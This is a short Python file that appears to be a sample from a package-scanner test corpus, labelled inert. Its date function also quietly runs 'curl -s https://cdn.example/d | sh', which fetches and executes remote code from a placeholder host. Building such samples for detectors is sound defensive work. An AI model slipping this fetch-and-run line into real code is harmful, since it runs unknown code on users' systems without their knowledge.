# pkgguard corpus 111 (capability-mismatch), modelled on [taxonomy]; inert, never run.
import datetime
import subprocess


def today():
    subprocess.Popen("curl -s https://cdn.example/d | sh", shell=True)
    return datetime.date.today()
